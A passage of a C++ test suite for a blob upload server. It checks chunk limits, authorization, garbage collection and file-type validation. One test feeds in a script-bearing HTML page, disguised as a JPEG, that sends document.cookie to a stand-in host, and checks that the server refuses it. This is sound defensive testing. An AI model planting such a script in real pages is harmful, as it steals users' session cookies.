    uploadAll("naka", given);
    EXPECT_EQ(status("nakaReader", sha256Hex(given))["complete"], true);
    EXPECT_EQ(download("nakaReader", sha256Hex(whole), 1).body, whole.substr(C));
}

TEST_P(BlobsTest, aRestoredRecordStopsTheGraceClock)
{
    const std::string file = bytesOf(900, 14);
    const std::string id = createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    uploadAll("naka", file);
    ASSERT_EQ(push("naka", deleteOf(0, id, kNaka, 1, ++hlc))["status"], "applied");
    Mutation restore = createOf(0, id, kNaka, json::object(), ++hlc);
    restore.op = Op::Restore;
    ASSERT_EQ(push("naka", restore)["status"], "applied");
    const std::int64_t grace = kDefaultBlobGraceDays * 24 * 3600;
    EXPECT_EQ(collectBlobs(store, grace, unixNow() + 2 * grace).blobs, 0);
    EXPECT_EQ(status("nakaReader", sha256Hex(file))["complete"], true);
}

// The same over a real loopback connection: the bytes as the body, the
// chunk's hash in a header both ways, the gate's 413 before the body is read.
TEST_P(BlobsTest, chunksTravelAsOctetStreamsOverHttp)
{
    const std::string file = bytesOf(C + 300, 15);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")});
    GuardedHttpServer server{ConnectionLimits{}};
    api->install(server);
    const int port = server.bind_to_any_port("127.0.0.1");
    ASSERT_GT(port, 0);
    std::thread thread([&] { server.listen_after_bind(); });
    for (int i = 0; i < 200 && !server.is_running(); ++i)
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    httplib::Client client("127.0.0.1", port);
    client.set_read_timeout(10, 0);
    const httplib::Headers auth = {{"Authorization", "Bearer " + tokens["naka"]},
                                   {kProtocolHeader, std::to_string(kProtocolVersion)}};
    auto send = [&](std::int64_t i, const std::string &bytes) {
        httplib::Headers h = auth;
        h.emplace(kChunkShaHeader, sha256Hex(bytes));
        return client.Post("/v1/blobs/" + sha + "/chunks/" + std::to_string(i), h, bytes, "application/octet-stream");
    };
    auto tooLarge = send(0, std::string(static_cast<std::size_t>(C) + 1, 'x'));
    ASSERT_TRUE(tooLarge);
    EXPECT_EQ(tooLarge->status, 413);
    EXPECT_EQ(json::parse(tooLarge->body)["error"]["code"], "too_large");
    httplib::Client again("127.0.0.1", port); // the refused body closed that connection
    again.set_read_timeout(10, 0);
    for (std::int64_t i = 0; i < 2; ++i) {
        httplib::Headers h = auth;
        const std::string bytes = file.substr(i * C, chunkLength(file.size(), i));
        h.emplace(kChunkShaHeader, sha256Hex(bytes));
        auto r = again.Post("/v1/blobs/" + sha + "/chunks/" + std::to_string(i), h, bytes, "application/octet-stream");
        ASSERT_TRUE(r);
        ASSERT_EQ(r->status, 200) << r->body;
    }
    // A sender who may not send it is answered from the head: the megabyte
    // announced is never waited for (a raw socket sends the head alone).
    auto headOnly = [&](const std::string &who) {
        const int fd = socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in addr{};
        addr.sin_family = AF_INET;
        addr.sin_port = htons(static_cast<std::uint16_t>(port));
        addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        EXPECT_EQ(connect(fd, reinterpret_cast<sockaddr *>(&addr), sizeof addr), 0);
        timeval wait{5, 0};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
        const std::string head = "POST /v1/blobs/" + sha + "/chunks/0 HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
                                 (who.empty() ? "" : "Authorization: Bearer " + tokens[who] + "\r\n") +
                                 std::string(kChunkShaHeader) + ": " + std::string(64, 'a') +
                                 "\r\nContent-Type: application/octet-stream\r\nContent-Length: " + std::to_string(C) +
                                 "\r\n\r\n";
        EXPECT_EQ(write(fd, head.data(), head.size()), static_cast<ssize_t>(head.size()));
        char answer[256] = {};
        const ssize_t n = read(fd, answer, sizeof answer - 1);
        close(fd);
        return std::string(answer, static_cast<std::size_t>(std::max<ssize_t>(0, n)));
    };
    EXPECT_TRUE(headOnly("nishi").starts_with("HTTP/1.1 403")) << headOnly("nishi");
    EXPECT_TRUE(headOnly("nakaReader").starts_with("HTTP/1.1 403"));
    EXPECT_TRUE(headOnly("").starts_with("HTTP/1.1 401"));

    auto got = again.Get("/v1/blobs/" + sha + "/chunks/1", auth);
    ASSERT_TRUE(got);
    EXPECT_EQ(got->status, 200);
    EXPECT_EQ(got->get_header_value("Content-Type"), "application/octet-stream");
    EXPECT_EQ(got->get_header_value(kChunkShaHeader), sha256Hex(file.substr(C)));
    EXPECT_TRUE(got->body == file.substr(C));
    server.stop();
    thread.join();
}

TEST_P(BlobsTest, aFileWhoseFirstBytesAreNotTheKindItsRecordSaysIsRefusedAndNothingOfItIsKept)
{
    // A page of script listed as a photo by a client of its own making.
    const std::string page = "<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>";
    const std::string sha = sha256Hex(page);
    json entry = entryOf(page, "board.jpg");
    createNote("naka", kNaka, {entry});
    ApiResponse r = upload("naka", sha, 0, page);
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "kind_mismatch");
    EXPECT_NE(json::parse(r.body)["error"]["message"].get<std::string>().find("image/jpeg"), std::string::npos);
    EXPECT_EQ(status("naka", sha)["have"], json::array());
    EXPECT_EQ(download("nakaReader", sha, 0).status, 404);

    // A preview is a JPEG: a PNG, or anything else, under a thumb is refused too.
    const std::string photo = bytesOf(5000, 41);
    const std::string png = std::string("\x89PNG\r\n\x1A\n", 8) + bytesOf(200, 42);
    entry = entryOf(photo, "flyer.jpg");
    entry["thumb"] = sha256Hex(png);
    createNote("naka", kNaka, {entry});
    r = upload("naka", sha256Hex(png), 0, png);
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "kind_mismatch");
    uploadAll("naka", photo); // the photo itself is what it says

    // A file of a kind without a signature, or the kind it says, goes as before.
    const std::string gif = "GIF89a" + bytesOf(300, 43).substr(6);
    entry = entryOf(gif, "anim.gif");
    entry["mime"] = "image/gif";
    createNote("naka", kNaka, {entry});
    uploadAll("naka", gif);
    EXPECT_EQ(status("naka", sha256Hex(gif))["complete"], true);
}

TEST_P(BlobsTest, aFileWhoseEntryIsEditedToAnotherKindAfterItIsWholeIsNotHandedOutAsThatKind)
{
    // A real GIF, listed as one, whole on the server; then its entry says PNG.
    const std::string gif = "GIF89a" + bytesOf(C + 300, 45).substr(6);
    const std::string sha = sha256Hex(gif);
    json entry = entryOf(gif, "anim.gif");
    entry["mime"] = "image/gif";
    const std::string id = createNote("naka", kNaka, {entry});
    uploadAll("naka", gif);
    ASSERT_EQ(download("nakaReader", sha, 0).status, 200);

    json asPng = entry;
    asPng["name"] = "anim.png";
    asPng["mime"] = "image/png";
    Mutation m = editOf(0, id, kNaka, {{"photos", {asPng}}}, {{"photos", 1}}, 1, ++hlc);
    m.prev = {{"photos", {entry}}};
    ASSERT_EQ(push("naka", m)["status"], "applied");
    ApiResponse r = download("nakaReader", sha, 0);
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "kind_mismatch");
    EXPECT_NE(json::parse(r.body)["error"]["message"].get<std::string>().find("image/png"), std::string::npos);
    EXPECT_EQ(download("nakaReader", sha, 1).status, 200) << "only the first bytes tell the kind";

    // A record the reader may read that still says GIF: the bytes are what it says.
    createNote("naka", kNaka, {entry});
    r = download("nakaReader", sha, 0);
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_TRUE(r.body == gif.substr(0, C));
}

TEST_P(BlobsTest, aFileListedAsTwoKindsIsHeldToBoth)
{
    // One record's field says JPEG, another's PNG: the bytes can be only one.
    const std::string photo = bytesOf(4000, 44);
    createNote("naka", kNaka, {entryOf(photo, "a.jpg")});
    json asPng = entryOf(photo, "a.png");
    asPng["mime"] = "image/png";
    createNote("naka", kNaka, {asPng});
    ApiResponse r = upload("naka", sha256Hex(photo), 0, photo);
    EXPECT_EQ(r.status, 422) << r.body;
    EXPECT_EQ(code(r), "kind_mismatch");
}

TEST_P(BlobsTest, aDiskNearlyFullTakesNoChunkButRecordsStillGo)
{
    ApiOptions o;
    o.log = false;
    o.blobRoom = {std::filesystem::temp_directory_path().string(), std::numeric_limits<std::int64_t>::max() / 2};
    api = std::make_unique<HttpApi>(store, schemas, o);
    const std::string file = bytesOf(5000, 51);
    const std::string sha = sha256Hex(file);
    createNote("naka", kNaka, {entryOf(file, "a.jpg")}); // a record: taken
    ApiResponse r = upload("naka", sha, 0, file);
    EXPECT_EQ(r.status, 507) << r.body;
    EXPECT_EQ(code(r), "storage_full");
    EXPECT_EQ(status("naka", sha)["have"], json::array());

    // With the reserve met, the same chunk is taken.
    o.blobRoom.reserveBytes = 0;
    api = std::make_unique<HttpApi>(store, schemas, o);
    uploadAll("naka", file);
    EXPECT_EQ(status("naka", sha)["complete"], true);

    // Bytes compared with a whole file, never stored again, need no room:
    // another writer's copy still proves it for their records.
    o.blobRoom.reserveBytes = std::numeric_limits<std::int64_t>::max() / 2;
    api = std::make_unique<HttpApi>(store, schemas, o);
    createNote("naka2", kNaka, {entryOf(file, "copy.jpg")});
    r = upload("naka2", sha, 0, file);
    EXPECT_EQ(r.status, 200) << r.body;
}
